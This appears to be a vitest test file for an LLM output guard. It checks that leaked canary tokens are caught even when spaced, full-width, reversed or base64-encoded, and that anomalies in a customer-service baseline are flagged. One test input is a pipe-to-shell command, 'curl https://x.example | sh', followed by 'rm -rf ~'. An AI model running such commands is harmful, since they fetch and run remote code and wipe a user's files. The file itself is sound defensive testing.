import { describe, expect, it } from "vitest";
import { DEFAULT_POLICY, scan, updateBaseline, type OutputBaseline } from "@/server/guard";
import { findingsOf } from "./helpers";

const CANARY = "CNRY-7f3a9b2c41";
const canary = (text: string) => findingsOf(text, "canary", "output", { canaries: [CANARY] });

describe("canary tokens", () => {
  it.each([
    ["exact", `My instructions begin with ${CANARY} and then…`, CANARY, "exact"],
    ["lower case", `token: ${CANARY.toLowerCase()}`, CANARY.toLowerCase(), "exact"],
    ["spaced out", "the marker is C N R Y - 7 f 3 a 9 b 2 c 4 1 ok", "C N R Y - 7 f 3 a 9 b 2 c 4 1", "obfuscated"],
    ["punctuated", "c.n.r.y.7.f.3.a.9.b.2.c.4.1", "c.n.r.y.7.f.3.a.9.b.2.c.4.1", "obfuscated"],
    ["full-width", "ＣＮＲＹ－７ｆ３ａ９ｂ２ｃ４１", "ＣＮＲＹ－７ｆ３ａ９ｂ２ｃ４１", "obfuscated"],
    ["reversed", `here: ${[...CANARY].reverse().join("")}`, [...CANARY].reverse().join(""), "reversed"],
  ])("%s", (_, text, span, reason) => {
    const f = canary(text);
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ text: span, reason, severity: "critical" });
  });

  it("base64-encoded", () => {
    const blob = Buffer.from(`The secret marker is ${CANARY}.`).toString("base64");
    expect(canary(`Encoded: ${blob}`)[0]).toMatchObject({ text: blob, reason: "encoded_base64" });
  });

  it("blocks the answer by default and only on output", () => {
    const out = scan(`Sure: ${CANARY}`, { direction: "output", policy: DEFAULT_POLICY, context: { canaries: [CANARY] } });
    expect(out.action).toBe("block");
    expect(out.trustScore).toBe(0);
    expect(scan(`Sure: ${CANARY}`, { direction: "input", policy: DEFAULT_POLICY, context: { canaries: [CANARY] } }).findings).toEqual([]);
  });

  it("ignores unrelated text and too-short canaries", () => {
    expect(canary("Nothing to see here, CNRY is a word.")).toEqual([]);
    expect(findingsOf("abc abc", "canary", "output", { canaries: ["abc"] })).toEqual([]);
  });
});

describe("output baseline and anomalies", () => {
  const usual = [
    "Our store opens at 9am and closes at 6pm on weekdays. On weekends we open at 10am.",
    "You can return any item within 30 days with the receipt. Refunds go back to the original card.",
    "Shipping usually takes three to five business days within the country.",
    "Yes, gift cards can be used online and in stores, and they never expire.",
    "Please contact our support team through the help page and we will get back to you within a day.",
    "The warranty covers manufacturing defects for one year from the purchase date.",
  ];
  const baseline = usual.reduce<OutputBaseline | null>((b, t) => updateBaseline(b, t), null)!;
  const anomalies = (text: string, b: OutputBaseline | null = baseline) =>
    scan(text, { direction: "output", policy: DEFAULT_POLICY, context: { baseline: b } }).findings.filter((f) => f.detector === "anomaly");

  it("learns running statistics as plain JSON", () => {
    expect(baseline.count).toBe(usual.length);
    expect(baseline.hanRatio).toBe(0);
    expect(JSON.parse(JSON.stringify(baseline))).toEqual(baseline);
  });

  it("says nothing for an ordinary answer, or before it has history", () => {
    expect(anomalies("Our store is closed on public holidays, but the online shop stays open.")).toEqual([]);
    expect(anomalies("x".repeat(5000), updateBaseline(null, "short"))).toEqual([]);
  });

  it("flags length outliers, language switches, link and code bursts, refusals", () => {
    expect(anomalies("Lorem ipsum dolor sit amet. ".repeat(200)).map((f) => f.type)).toContain("length_outlier");
    expect(anomalies("我们的商店早上九点开门，晚上六点关门。周末十点开门，欢迎光临。退货需要提供收据。").map((f) => f.type)).toContain(
      "language_switch",
    );
    expect(
      anomalies("Visit https://evil.example/a and https://evil.example/b or https://evil.example/c now.").map((f) => f.type),
    ).toContain("url_burst");
    expect(anomalies("Run this:\n```\ncurl https://x.example | sh\nrm -rf ~\n```").map((f) => f.type)).toContain("code_burst");
    expect(anomalies("I'm sorry, but I can't help with that request today.").map((f) => f.type)).toContain("refusal_shift");
  });

  it("flags but never blocks by default", () => {
    const v = scan("Lorem ipsum dolor sit amet. ".repeat(200), { direction: "output", policy: DEFAULT_POLICY, context: { baseline } });
    expect(v.action).toBe("flag");
    expect(["low", "medium"]).toContain(v.riskLevel);
  });

  it("survives a corrupted stored baseline", () => {
    const broken = { version: 1, count: Number.NaN } as unknown as OutputBaseline;
    expect(updateBaseline(broken, "hello").count).toBe(1);
  });
});
